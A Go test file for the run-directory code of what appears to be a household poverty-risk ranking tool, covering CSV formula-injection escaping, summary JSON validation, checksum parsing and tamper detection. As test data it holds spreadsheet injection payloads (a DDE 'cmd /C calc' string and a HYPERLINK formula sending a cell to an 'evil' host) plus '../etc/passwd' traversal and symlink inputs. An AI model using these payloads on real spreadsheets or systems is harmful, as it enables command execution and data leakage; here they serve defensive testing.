package rundir

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/povrisk/povrisk/engine/fault"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"H00000647", "H00000647"},
		{"", ""},
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠A", "'＠A"},
		{"﹦1+1", "'﹦1+1"},
		{"﹢1", "'﹢1"},
		{"﹣1", "'﹣1"},
		{"﹫A", "'﹫A"},
		{"近12个月=3", "近12个月=3"}, // only the first character counts
		{"a=b", "a=b"},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSVInjectionNeutralised writes hostile household ids and reasons
// into ranked.csv and changes.csv and checks the bytes written: every
// formula-looking text cell starts with an apostrophe, numbers (a negative
// income too) are written as numbers.
func TestCSVInjectionNeutralised(t *testing.T) {
	rows := []Row{{HouseholdID: `=HYPERLINK("http://evil/?x="&A1,"click")`, RegionCode: "520123100201", CountyCode: "520123",
		TownshipCode: "520123100", PovertyStatus: "general", Score: 0.5, Rank: 1, RankCounty: 1, RankTownship: 1, Tier: "high",
		Reasons: "+cmd|' /C calc'!A0", ReasonsEn: "@SUM(1+1)", Conflicts: "－1", NetIncomePC12m: -1200.5, OOPMedical12m: math.NaN(),
		CountyName: "+县", EliminatedDate: "2025-06-30", Watch: true}}
	var buf bytes.Buffer
	if err := WriteRankedCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimPrefix(buf.String(), utf8BOM), "\n")
	want := `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",520123100201,520123,520123100,general,0.5,1,1,1,high,false,,,,,,,` +
		`'+cmd|' /C calc'!A0,'@SUM(1+1),,'－1,,,-1200.5,,'+县,,,2025-06-30,true`
	if lines[1] != want {
		t.Errorf("ranked.csv row:\n got %s\nwant %s", lines[1], want)
	}
	buf.Reset()
	ch := []Change{{HouseholdID: "+cmd|x", RegionCode: "=1+1", Change: "entered", Score: 0.5, PreviousScore: math.NaN()}}
	if err := WriteChanges(&buf, ch); err != nil {
		t.Fatal(err)
	}
	wantCh := "household_id,region_code,county_code,township_code,change,score,previous_score,delta\n'+cmd|x,'=1+1,'=1+1,'=1+1,entered,0.5,,\n"
	if buf.String() != wantCh {
		t.Errorf("changes.csv:\n got %q\nwant %q", buf.String(), wantCh)
	}
	// Read back as CSV: the cells keep their text after the apostrophe.
	recs, err := csv.NewReader(strings.NewReader(wantCh)).ReadAll()
	if err != nil || recs[1][0] != "'+cmd|x" {
		t.Errorf("changes.csv does not read back: %v %q", err, recs)
	}
}

func TestSummaryRoundTrip(t *testing.T) {
	auc := 0.8
	s := &Summary{Schema: SchemaVersion, AsOf: "2025-12-31", PreviousRun: "2025-11-30", Tiers: Tiers{High: 0.2, Medium: 0.1},
		Model:      ModelInfo{ID: "rf-x", AUC: &auc, PrecisionAt: map[string]float64{"0.05": 0.2}},
		Counts:     Counts{Households: 10, Eligible: 9, MonitoredExcluded: 1, ByTier: map[string]int{"high": 1}},
		Validation: Validation{AsOf: "2025-06-30", AUC: &auc, HorizonMonths: 6},
		Warnings:   []Warning{{Table: "medical_claims", LastDate: "2025-09-30", MonthsBehind: 3, CadenceMonths: 1}}}
	var buf bytes.Buffer
	if err := encodeSummary(&buf, s); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"\n  \"tiers\": {\n    \"high\": 0.2,\n    \"medium\": 0.1\n  },",
		`"pr_auc": null`, `"months_behind": 3`, "\"validation\": {\n    \"as_of\": \"2025-06-30\",\n    \"auc\": 0.8,\n    \"county_precision\": null,"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("summary.json lacks %q:\n%s", want, buf.String())
		}
	}
	got, err := DecodeSummary(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if *got.Model.AUC != 0.8 || got.Model.PRAUC != nil || got.Warnings[0] != s.Warnings[0] || got.Counts.ByTier["high"] != 1 {
		t.Errorf("decoded %+v", got)
	}
	if w := s.Warnings[0].String(); w != "table medical_claims is stale: last date 2025-09-30, 3 months behind the as-of date (expected every 1 month)" {
		t.Errorf("warning text %q", w)
	}
}

func TestDecodeSummaryRefuses(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", "decode summary.json"},
		{"not json", "{", "decode summary.json"},
		{"schema", `{"schema": 2, "as_of": "2025-12-31"}`, "schema 2"},
		{"no date", `{"schema": 1, "as_of": "yesterday"}`, `as_of "yesterday"`},
		{"bad previous", `{"schema": 1, "as_of": "2025-12-31", "previous_run": "x"}`, "previous_run"},
		{"negative", `{"schema": 1, "as_of": "2025-12-31", "counts": {"households": -1}}`, "counts do not add up"},
		{"more eligible", `{"schema": 1, "as_of": "2025-12-31", "counts": {"households": 1, "eligible": 2}}`, "counts do not add up"},
		{"trailing", `{"schema": 1, "as_of": "2025-12-31"} {}`, "text after"},
		{"wrong type", `{"schema": 1, "as_of": "2025-12-31", "tiers": {"high": "x"}}`, "decode summary.json"},
	} {
		_, err := DecodeSummary([]byte(tc.in))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err %v, want %q", tc.name, err, tc.want)
		}
	}
}

// FuzzReadSummary: DecodeSummary never panics, and what it accepts
// encodes and decodes again to the same summary.
func FuzzReadSummary(f *testing.F) {
	f.Add([]byte(`{"schema": 1, "as_of": "2025-12-31", "model": {"auc": 0.8}, "tiers": {"high": 0.2}}`))
	f.Add([]byte(`{"schema": 1, "as_of": "2025-02-28", "counts": {"households": 3, "eligible": 2, "by_tier": {"high": 1}}, "warnings": [{"table": "x"}]}`))
	f.Add([]byte(`{"schema": 1, "as_of": "2025-12-31", "validation": {"precision_at": {"0.05": 1e308}}}`))
	f.Add([]byte("\x00\xff{"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s, err := DecodeSummary(b)
		if err != nil {
			return
		}
		var buf bytes.Buffer
		if err := encodeSummary(&buf, s); err != nil {
			t.Fatalf("accepted summary does not encode: %v", err)
		}
		if _, err := DecodeSummary(buf.Bytes()); err != nil {
			t.Fatalf("re-encoded summary refused: %v", err)
		}
	})
}

func FuzzParseChecksums(f *testing.F) {
	f.Add([]byte(strings.Repeat("a", 64) + "  ranked.csv\n" + strings.Repeat("b", 64) + "  worklists/520123.xlsx\n"))
	f.Add([]byte(strings.Repeat("a", 64) + "  ../etc/passwd\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		m, err := ParseChecksums(b)
		if err != nil {
			return
		}
		for p, h := range m {
			if strings.HasPrefix(p, "/") || strings.Contains("/"+p+"/", "/../") || len(h) != 64 {
				t.Fatalf("accepted %q %q", p, h)
			}
		}
	})
}

// writeRun writes a small complete run directory through Writer.
func writeRun(t *testing.T, runs, day string) string {
	t.Helper()
	w, err := Begin(runs, day, PermsFor(false))
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	if err := w.Create("ranked.csv", func(out io.Writer) error { return WriteRankedCSV(out, nil) }); err != nil {
		t.Fatal(err)
	}
	if err := w.Mkdir("worklists"); err != nil {
		t.Fatal(err)
	}
	if err := w.Create("worklists/520123.xlsx", func(out io.Writer) error { _, err := out.Write([]byte("x")); return err }); err != nil {
		t.Fatal(err)
	}
	if err := w.Summary(&Summary{AsOf: day, Counts: Counts{Households: 2, Eligible: 1}}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Seal(); err != nil {
		t.Fatal(err)
	}
	dir, err := w.Commit()
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestWriteReadVerify(t *testing.T) {
	runs := t.TempDir()
	dir := writeRun(t, runs, "2025-12-31")
	r, err := Read(dir)
	if err != nil {
		t.Fatal(err)
	}
	if r.Summary.AsOf != "2025-12-31" || r.Summary.Schema != SchemaVersion || r.Summary.Warnings == nil || len(r.Sums) != 4 {
		t.Errorf("read %+v, sums %v", r.Summary, r.Sums)
	}
	if h, _ := HashFile(filepath.Join(dir, ChecksumsFile)); r.Sums[ChecksumsFile] != h {
		t.Errorf("checksums.sha256's own sum %s, file hashes to %s", r.Sums[ChecksumsFile], h)
	}
	if _, err := os.Stat(filepath.Join(runs, PartialName("2025-12-31"))); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("partial directory left: %v", err)
	}
	for _, tc := range []struct {
		name   string
		tamper func(dir string)
		want   string
	}{
		{"altered", func(d string) { os.WriteFile(filepath.Join(d, "worklists/520123.xlsx"), []byte("y"), 0o600) }, "worklists/520123.xlsx does not match"},
		{"extra", func(d string) { os.WriteFile(filepath.Join(d, "notes.txt"), []byte("y"), 0o600) }, "notes.txt is not in"},
		{"missing", func(d string) { os.Remove(filepath.Join(d, "ranked.csv")) }, "ranked.csv listed in checksums.sha256 is missing"},
		{"no checksums", func(d string) { os.Remove(filepath.Join(d, ChecksumsFile)) }, "no checksums.sha256"},
		{"symlink", func(d string) { os.Symlink("/etc/passwd", filepath.Join(d, "link")) }, "not a regular file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := writeRun(t, t.TempDir(), "2025-11-30")
			tc.tamper(d)
			_, err := Read(d)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			if fault.Of(err) != fault.Tampered || !IsIncomplete(err) {
				t.Errorf("kind %v, want tampered", fault.Of(err))
			}
		})
	}
}

func TestPrevious(t *testing.T) {
	runs := t.TempDir()
	for _, d := range []string{"2025-06-30", "2025-12-15", "2025-11-30", "2025-12-31"} {
		writeRun(t, runs, d)
	}
	os.MkdirAll(filepath.Join(runs, "2025-10-31"), 0o700) // no checksums: not complete
	for _, tc := range []struct{ asOf, want string }{
		{"2025-12-31", "2025-11-30"}, // 2025-12-15 is not a month-end
		{"2025-11-30", "2025-06-30"}, // 2025-10-31 is incomplete
		{"2025-06-30", ""},
		{"2026-01-31", "2025-12-31"},
	} {
		got, err := Previous(runs, tc.asOf)
		if err != nil || got != tc.want {
			t.Errorf("Previous(%s) = %q, %v; want %q", tc.asOf, got, err, tc.want)
		}
	}
}

func TestMonths(t *testing.T) {
	for n, want := range map[int]string{0: "0 months", 1: "1 month", 6: "6 months"} {
		if got := Months(n); got != want {
			t.Errorf("Months(%d) = %q", n, got)
		}
	}
}
